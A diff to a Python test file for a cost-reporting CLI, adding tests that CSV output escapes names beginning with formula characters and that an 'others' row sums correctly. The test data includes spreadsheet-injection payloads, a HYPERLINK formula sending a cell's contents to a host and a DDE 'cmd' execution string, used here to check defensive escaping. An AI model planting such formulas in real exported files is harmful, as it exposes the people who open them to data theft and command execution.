@@ -7,7 +7,7 @@ from pathlib import Path
 
 import pytest
 
-from bullpen.cli.cost import cost_text
+from bullpen.cli.cost import _csv, cost_text
 from bullpen.config import Settings
 from bullpen.model.ticket import UsageClass
 from bullpen.model.usage import Booking, Meter, Owner, UsageRow
@@ -158,6 +158,38 @@ def test_a_hostile_name_is_text_in_a_table_and_in_csv(bullpen: CommandLine) -> N
     books((Owner.RUN, '4711,"x"', "m7g.large", 1.0))
     rows = list(csv.DictReader(bullpen("cost", "--csv", "--by", "run").out.splitlines()))
     assert [row["name"] for row in rows] == ['4711,"x"']
+
+
+@pytest.mark.parametrize("run", ['=HYPERLINK("http://x/?"&A2)', "+1+cmd|'/C'!A0", "-2+3", "@SUM(1)"])
+def test_a_name_that_looks_like_a_formula_is_text_in_a_spreadsheet(bullpen: CommandLine, run: str) -> None:
+    books((Owner.RUN, run, "m7g.large", 1.0))
+    (row,) = csv.DictReader(bullpen("cost", "--csv", "--by", "run").out.splitlines())
+    assert row["name"] == f"'{run}"
+    assert bullpen("cost", "--json", "--by", "run").answer["rows"][0]["name"] == run
+
+
+def test_what_a_server_does_not_list_is_one_row_of_csv_and_the_rows_add_up() -> None:
+    def amount(seconds: float) -> AmountAnswer:
+        return AmountAnswer(seconds, seconds / 100)
+
+    rows = [CostRowAnswer(f"run-{n}", OwnerSeconds(n, 0.0, 1.0, 0.25), n + 1.25, n + 1.0) for n in (9, 8)]
+    owners = OwnersAnswer(amount(20.0), amount(3.0), amount(2.5), amount(0.5))
+    found = CostAnswer(
+        "2026-11-01T00:00:00Z", "2026-11-02T00:00:00Z", None, "run", AmountAnswer(26.0, 20.5), owners, rows, 231,
+        amount(26.0), [], [], 0, None, None, None,
+    )  # fmt: skip
+    listed = list(csv.DictReader(_csv(found).splitlines()))
+    assert listed[-1] == {
+        "name": "(231 others)",
+        "run_seconds": "3.000000",
+        "idle_seconds": "3.000000",
+        "boot_seconds": "0.500000",
+        "cleaning_seconds": "0.000000",
+        "seconds": "6.500000",
+        "usd": "1.500000",
+    }
+    assert sum(float(row["seconds"]) for row in listed) == 26.0
+    assert "and 231 more, which count in the total; a server lists the 2 most expensive" in cost_text(found, 120)
 
 
 @pytest.mark.slow
